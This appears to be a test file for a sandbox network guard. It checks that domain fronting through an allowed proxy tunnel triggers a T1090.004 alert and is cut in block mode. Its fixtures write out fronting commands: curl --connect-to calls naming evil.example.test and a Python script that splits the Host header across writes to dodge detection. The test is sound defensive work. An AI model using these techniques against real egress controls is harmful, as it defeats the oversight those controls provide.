// Invariant: inside a tunnel to an allowed name, a TLS SNI or a plain HTTP Host naming another host
// (domain fronting) raises an alert (T1090.004) tied to its step, and in block mode the stream is cut
// before the front gets the message, even when the client splits it over several writes.
import { after, before, describe, it } from 'node:test';
import * as assert from 'node:assert/strict';
import { bash, startGuardWorld, summary, waitForAlerts, type GuardWorld } from '../../testing/guard-world.js';
import type { LocalSandbox } from '../../sandbox/local/local-sandbox.js';

/** curl's --connect-to: the proxy is asked for the allowed front; SNI and Host name the hidden host. */
const FRONTED_TLS = 'curl -sS --max-time 5 -p --connect-to evil.example.test:443:docs.example.test:443 -k https://evil.example.test/';
const FRONTED_HTTP = 'curl -sS --max-time 5 -p --connect-to evil.example.test:80:docs.example.test:80 http://evil.example.test/';
/** The same, by hand, with the request head split over two writes a moment apart. */
const SPLIT_HTTP = String.raw`
import os, socket, time, urllib.parse
p = urllib.parse.urlparse(os.environ['http_proxy'])
s = socket.create_connection((p.hostname, p.port), timeout=5)
s.sendall(b'CONNECT docs.example.test:80 HTTP/1.1\r\nHost: docs.example.test:80\r\n\r\n')
print(s.recv(200).split(b'\r\n')[0].decode())
s.sendall(b'GET / HTTP/1.1\r\nHo')
time.sleep(0.3)
try:
    s.sendall(b'st: evil.example.test\r\n\r\n')
    print('reply:', s.recv(200).split(b'\r\n')[0].decode())
except OSError as e:
    print('cut:', e)
`;

async function splitHttp(sandbox: LocalSandbox): ReturnType<typeof bash> {
  await sandbox.writeFile('/workspace/split.py', SPLIT_HTTP);
  return bash(sandbox, 'python3 split.py');
}

function fronting(sandbox: LocalSandbox, world: GuardWorld, step: number) {
  return waitForAlerts(world, sandbox, (all) => all.some((a) => a.ruleId === 'domain-fronting' && a.step === step));
}

describe('monitor mode: a fronted tunnel raises its alert and goes on', () => {
  let world: GuardWorld;
  before(async () => {
    world = await startGuardWorld({ policy: { mode: 'monitor' } });
  });
  after(() => world.close());

  it('a TLS SNI other than the CONNECT target', async () => {
    const sandbox = await world.backend.create({ allowDomains: ['docs.example.test'] });
    const r = await bash(sandbox, FRONTED_TLS);
    const alerts = await fronting(sandbox, world, r.step);
    const alert = alerts.find((a) => a.ruleId === 'domain-fronting');
    assert.ok(alert, summary(alerts));
    assert.equal(alert.technique, 'T1090.004');
    assert.ok(alert.pid !== null, 'the alert names the process');
    const evidence = alert.evidence.find((e) => e.kind === 'proxy-connection');
    assert.ok(evidence && evidence.kind === 'proxy-connection');
    assert.deepEqual([evidence.host, evidence.protocol, evidence.frontedHost], ['docs.example.test', 'tls', 'evil.example.test']);
  });

  it('a plain HTTP Host other than the CONNECT target, split over two writes', async () => {
    const sandbox = await world.backend.create({ allowDomains: ['docs.example.test'] });
    const curl = await bash(sandbox, FRONTED_HTTP);
    assert.equal(curl.out, '# docs\n', 'monitor mode lets it through');
    assert.ok((await fronting(sandbox, world, curl.step)).some((a) => a.step === curl.step && a.ruleId === 'domain-fronting'));
    const split = await splitHttp(sandbox);
    const alerts = await fronting(sandbox, world, split.step);
    assert.ok(alerts.some((a) => a.ruleId === 'domain-fronting' && a.step === split.step), `${summary(alerts)}\n${split.out}`);
  });

  it('a tunnel whose SNI and Host name the target raises nothing', async () => {
    const sandbox = await world.backend.create({ allowDomains: ['docs.example.test'] });
    const r = await bash(sandbox, 'curl -sS -p http://docs.example.test/');
    assert.equal(r.out, '# docs\n');
    await sandbox.flushNetworkEvents();
    await world.guard.settle();
    // findings (a downloader ran) are weak signals kept with the step, not alerts
    assert.deepEqual(world.guard.alerts(sandbox.id).filter((a) => a.finding !== true).map((a) => a.ruleId), []);
  });
});

describe('block mode: the fronted stream is cut', () => {
  let world: GuardWorld;
  before(async () => {
    world = await startGuardWorld({ policy: { mode: 'block' } });
  });
  after(() => world.close());

  it('the front never gets the fronted ClientHello or request', async () => {
    const sandbox = await world.backend.create({ allowDomains: ['docs.example.test'] });
    const before = { bytes: world.fakes.received.docs, requests: world.fakes.received.docsRequests };
    const tls = await bash(sandbox, FRONTED_TLS);
    assert.notEqual(tls.exitCode, 0);
    const split = await splitHttp(sandbox);
    assert.doesNotMatch(split.out, /reply: HTTP/, split.out);
    const alerts = await fronting(sandbox, world, split.step);
    assert.ok(alerts.some((a) => a.ruleId === 'domain-fronting' && a.step === tls.step), summary(alerts));
    assert.ok(alerts.some((a) => a.ruleId === 'domain-fronting' && a.step === split.step), summary(alerts));
    await world.guard.settle();
    assert.ok(world.guard.actions(sandbox.id).some((a) => a.action === 'deny-stream' && a.target === 'docs.example.test:443'));
    assert.equal(world.fakes.received.docsRequests, before.requests, 'no fronted request was answered');
    // The whole ClientHello came in one write and was dropped; of the split request, only its first piece passed.
    assert.equal(world.fakes.received.docs - before.bytes, 'GET / HTTP/1.1\r\nHo'.length);
  });
});
